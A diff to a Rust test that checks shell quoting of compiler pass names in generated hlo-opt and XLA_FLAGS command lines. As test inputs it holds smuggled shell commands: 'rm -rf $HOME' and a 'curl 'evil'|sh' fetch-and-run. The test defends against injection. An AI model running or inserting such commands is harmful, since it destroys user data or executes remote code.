@@ -90,4 +90,12 @@ fn a_pass_of_evil_name_stays_a_name_in_the_shell() {
     let evil = with_passes(Start::Emitted, &["dce'; rm -rf $HOME #"]);
     let expected = r"hlo-opt --platform=CPU --passes='dce'\''; rm -rf $HOME #' FILE.hlo";
     assert_eq!(evil.hlo_opt_line(&[]).line, expected);
+
+    let mut recipe = recipe(1, 2.0, 0);
+    assert_eq!(recipe.xla_flags().unwrap(), "XLA_FLAGS=--xla_disable_hlo_passes=cse");
+    recipe.disabled_passes.push("x;curl 'evil'|sh".to_owned());
+    let expected = r"XLA_FLAGS=--xla_disable_hlo_passes='cse,x;curl '\''evil'\''|sh'";
+    assert_eq!(recipe.xla_flags().unwrap(), expected);
+    recipe.disabled_passes.clear();
+    assert_eq!(recipe.xla_flags(), None);
 }
